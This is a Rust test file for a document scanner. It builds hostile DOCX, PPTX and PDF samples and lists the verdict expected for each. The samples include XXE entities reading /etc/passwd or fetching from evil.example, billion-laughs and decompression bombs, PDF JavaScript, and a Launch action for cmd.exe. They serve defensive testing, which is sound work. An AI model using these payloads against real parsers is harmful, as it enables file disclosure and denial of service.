//! Documents: entities, files within files, macros, and PDFs that go in circles.

use azukari::contents::Hidden::{Embedded, Program, Revisions};
use azukari::contents::Unreadable::{Bomb, Broken, Encrypted, TooLarge, Unknown};

use super::Answer::{Hides, Inside, Whole, Why};
use super::make::{cut, deflated, docx, docx_of, page, pdf, plain_page, pptx, stream};
use super::sheets::{attributes, encrypted, laughs};
use super::{Case, case};

#[expect(clippy::too_many_lines, reason = "a list, a line each")]
pub(super) fn cases() -> Vec<Case> {
    vec![
        case(
            "a file of the machine as an entity",
            "a.docx",
            || docx_of(b"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", &[]),
            Why(Broken),
        ),
        case(
            "an entity that fetches others",
            "b.docx",
            || {
                docx_of(
                    b"<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://evil.example/\"> %x;]><a/>",
                    &[],
                )
            },
            Why(Broken),
        ),
        case(
            "a document type elsewhere",
            "c.docx",
            || docx_of(b"<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>", &[]),
            Why(Broken),
        ),
        case(
            "an entity in what it tells about itself",
            "d.docx",
            || {
                docx("", &[("docProps/core.xml", b"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///dev/zero\">]><creator>&x;</creator>")])
            },
            Why(Broken),
        ),
        case("a billion laughs", "e.docx", || docx_of(laughs().as_bytes(), &[]), Why(Broken)),
        case(
            "elements within each other",
            "f.docx",
            || docx(&"<a>".repeat(1_000_000), &[]),
            Why(Broken),
        ),
        case(
            "a million attributes",
            "g.docx",
            || docx(&format!("<a {}/>", attributes()), &[]),
            Why(Broken),
        ),
        case("a text of 100 MB", "h.docx", || docx(&"a".repeat(100 << 20), &[]), Why(Broken)),
        case(
            "ten million paragraphs",
            "hh.docx",
            || docx(&"<w:p></w:p>".repeat(10_000_000), &[]),
            Why(Bomb),
        ),
        case(
            "UTF-16 where nobody looks",
            "i.docx",
            || docx_of(&"<a/>".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>(), &[]),
            Why(Broken),
        ),
        case("macros", "j.docm", || docx("", &[("word/vbaProject.bin", b"x")]), Hides(Program)),
        case(
            "a program inside",
            "k.docx",
            || docx("", &[("word/embeddings/a.exe", b"MZ\x90\0\x03\0\0\0")]),
            Inside(Unknown),
        ),
        case(
            "a file inside",
            "l.docx",
            || docx("", &[("word/embeddings/a.txt", b"x")]),
            Hides(Embedded),
        ),
        case("documents within each other", "m.docx", dolls, Why(Bomb)),
        case("a document under a password", "n.docx", encrypted, Why(Encrypted)),
        case(
            "a document of old",
            "o.doc",
            || super::make::compound(&[("/WordDocument", b"x")]),
            Why(Unknown),
        ),
        case(
            "a document of old under a new name",
            "p.docx",
            || super::make::compound(&[("/WordDocument", b"x")]),
            Why(Broken),
        ),
        case("cut off", "q.docx", || cut(&docx("", &[]), 70), Why(Broken)),
        case("a document as a presentation", "r.pptx", || docx("", &[]), Why(Broken)),
        case("a presentation", "a.pptx", pptx, Whole),
        case("cut off", "b.pptx", || cut(&pptx(), 70), Why(Broken)),
        case("a presentation under a password", "c.pptx", encrypted, Why(Encrypted)),
        case("a small PDF", "a.pdf", plain_page, Whole),
        case(
            "a PDF under a password",
            "b.pdf",
            || pdf(&[b"<</Type/Page>>".to_vec()], "/Encrypt 1 0 R"),
            Why(Encrypted),
        ),
        case(
            "a password in a stream of places",
            "c.pdf",
            || pdf(&[b"<</Type/Page>>".to_vec(), stream("/Type/XRef/Encrypt 1 0 R", b"")], ""),
            Why(Encrypted),
        ),
        case(
            "pages that are their own pages",
            "d.pdf",
            || {
                pdf(
                    &[
                        b"<</Type/Pages/Parent 1 0 R/Kids[1 0 R 2 0 R]>>".to_vec(),
                        b"<</Type/Page/Parent 1 0 R/Contents 2 0 R>>".to_vec(),
                    ],
                    "",
                )
            },
            Whole,
        ),
        case(
            "places that go in a circle",
            "e.pdf",
            || pdf(&[b"<</Type/Page>>".to_vec()], "/Prev 15"),
            Whole,
        ),
        case(
            "a reference to itself",
            "f.pdf",
            || page(stream("", b"BT (x) Tj ET"), &[b"5 0 R".to_vec()]),
            Whole,
        ),
        case(
            "a length that is its own",
            "g.pdf",
            || page(b"<</Length 4 0 R>>\nstream\nBT (x) Tj ET\nendstream".to_vec(), &[]),
            Whole,
        ),
        case(
            "a length of 2 GB, as it says",
            "h.pdf",
            || page(b"<</Length 2147483647>>\nstream\nBT (x) Tj ET\nendstream".to_vec(), &[]),
            Whole,
        ),
        case(
            "a page of 100 MB of spaces",
            "i.pdf",
            || page(stream("/Filter/FlateDecode", &deflated(vec![b' '; 100 << 20])), &[]),
            Why(Bomb),
        ),
        case(
            "packed twice",
            "j.pdf",
            || {
                page(
                    stream(
                        "/Filter[/FlateDecode/FlateDecode]",
                        &deflated(deflated(vec![0; 100 << 20])),
                    ),
                    &[],
                )
            },
            Why(Bomb),
        ),
        case(
            "objects that unpack to 100 MB",
            "l.pdf",
            || {
                page(
                    stream("", b""),
                    &[stream(
                        "/Type/ObjStm/N 1/First 4/Filter/FlateDecode",
                        &deflated(vec![b' '; 100 << 20]),
                    )],
                )
            },
            Why(Bomb),
        ),
        case(
            "objects in themselves",
            "m.pdf",
            || {
                page(
                    stream("", b"BT (x) Tj ET"),
                    &[stream("/Type/ObjStm/N 1/First 4/Extends 5 0 R", b"5 0 <</Type/ObjStm>>")],
                )
            },
            Whole,
        ),
        case(
            "lists within each other",
            "n.pdf",
            || page(stream("", b"BT (x) Tj ET"), &[b"[".repeat(1_000_000)]),
            Whole,
        ),
        case(
            "a million objects",
            "o.pdf",
            || {
                [
                    b"%PDF-1.7\n".to_vec(),
                    b"1 0 obj<<>>endobj\n".repeat(1_000_000),
                    b"%%EOF".to_vec(),
                ]
                .concat()
            },
            Why(TooLarge),
        ),
        case(
            "a stream that isn't what it says",
            "p.pdf",
            || page(stream("/Filter/FlateDecode", b"not packed"), &[]),
            Whole,
        ),
        case(
            "a program",
            "q.pdf",
            || page(stream("", b""), &[b"<</S/JavaScript/JS(app.launchURL)>>".to_vec()]),
            Hides(Program),
        ),
        case(
            "a program to start",
            "r.pdf",
            || page(stream("", b""), &[b"<</S/Launch/F(cmd.exe)>>".to_vec()]),
            Hides(Program),
        ),
        case(
            "a program inside",
            "s.pdf",
            || {
                page(
                    stream("", b""),
                    &[
                        stream("/Type/EmbeddedFile", b"MZ\x90\0\x03\0\0\0"),
                        b"<</F(a.exe)/EF<</F 5 0 R>>>>".to_vec(),
                    ],
                )
            },
            Inside(Unknown),
        ),
        case("a page under the page", "t.pdf", replaced_page, Hides(Revisions)),
        case(
            "bytes before it",
            "u.pdf",
            || [b"GIF89 ".to_vec(), plain_page()].concat(),
            Why(Broken),
        ),
        case("cut off", "v.pdf", || cut(&plain_page(), 60), Why(Broken)),
        case("a head and nothing else", "w.pdf", || b"%PDF-1.7\n%%EOF".to_vec(), Why(Broken)),
        case("text without end", "x.txt", || vec![b'a'; 81_000_000], Why(TooLarge)),
    ]
}

fn dolls() -> Vec<u8> {
    (0..8).fold(docx("", &[]), |inner, _| docx("", &[("word/embeddings/a.docx", &inner)]))
}

fn replaced_page() -> Vec<u8> {
    let later = b"4 0 obj\n<</Length 2>>\nstream\nBT\nendstream\nendobj\nstartxref\n0\n%%EOF\n";
    [plain_page(), later.to_vec()].concat()
}
